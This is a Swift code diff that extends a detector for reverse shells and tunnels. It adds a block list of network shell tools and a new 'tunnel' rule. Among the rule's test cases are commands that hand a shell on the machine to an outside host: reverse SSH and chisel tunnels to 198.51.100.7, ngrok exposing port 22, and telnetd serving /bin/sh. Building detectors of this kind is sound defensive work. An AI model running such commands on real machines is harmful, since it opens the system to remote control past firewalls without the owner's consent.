@@ -8,9 +8,13 @@ enum ReverseShell: Family {
   static let programs = [
     "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "ttyd", "gotty", "xterm",
     "cryptcat", "powercat",
-    "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel",
+    "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel", "ssh", "autossh", "ngrok", "bore", "cloudflared",
+    "tmate",
+    "sshx", "upterm", "teleconsole", "gs-netcat", "code", "telnetd", "in.telnetd", "dropbear", "sshd",
+    "shellinaboxd", "wetty", "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat",
+    "websocketd", "evil-winrm", "plink",
   ]
-  static let rules = [shell]
+  static let rules = [shell, tunnel]
 
   static func judge(_ invocation: Invocation, _ context: inout Judgement) {
     let words = invocation.arguments.map { $0.value.known ?? $0.value.prefix }
@@ -35,7 +39,16 @@ enum ReverseShell: Family {
         word == "-display" && i + 1 < words.count && !words[i + 1].hasPrefix(":")
           && !words[i + 1].hasPrefix("localhost")
       }
-    default: break
+    case "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocketd":
+      found = words.contains { !$0.hasPrefix("-") && isShell($0) }
+    case "websocat":
+      let lower = words.map(\.asciiLowercased)
+      found = lower.contains { word in
+        word.hasPrefix("sh-c:") || word.hasPrefix("cmd:")
+          || word.hasPrefix("exec:") && isShell(String(word.dropFirst(5)))
+      }
+      found = found || lower.contains("--exec-args") && lower.contains(where: isShell)
+    default: Tunnels.judge(invocation, name, words, &context)
     }
     if found { report(invocation, &context) }
   }
@@ -149,6 +162,24 @@ enum ReverseShell: Family {
   static func report(_ invocation: Invocation, _ context: inout Judgement) {
     context.report(shell, on: invocation.canonicalName, at: invocation.range, program: invocation.name)
   }
+
+  static let tunnel = Rule(
+    "reverse-shell.tunnel", .high, "Opens this machine to others through {}",
+    why: "Whoever is at the other end can log in here, or type into a terminal here, past every firewall.",
+    instead:
+      "Let the person open such a way in; to reach a service elsewhere, bring it here: `ssh -L 5432:localhost:5432 bastion`.",
+    fires: [
+      "ssh -fN -R 2222:localhost:22 eve@198.51.100.7", "autossh -M 0 -NR 8022:127.0.0.1:22 eve@198.51.100.7",
+      "chisel client 198.51.100.7:8080 R:2222:localhost:22", "ngrok tcp 22", "bore local 22 --to bore.pub",
+      "cloudflared tunnel --url ssh://localhost:22", "tmate -F", "sshx", "code tunnel",
+      "telnetd -p 4444 -l /bin/sh",
+    ],
+    passes: [
+      "ssh -L 5432:localhost:5432 bastion", "ssh -R 3000:localhost:3000 staging", "ngrok http 3000",
+      "ssh host uptime",
+      "chisel client 198.51.100.7:8080 5432:localhost:5432", "cloudflared tunnel --url http://localhost:3000",
+      "bore local 3000 --to bore.pub", "code .", "sshd -t", "tmate --help", "ssh -N -D 1080 bastion",
+    ])
 
   static let shell = Rule(
     "reverse-shell.shell", .critical, "Hands a shell to somebody on the network through {}",
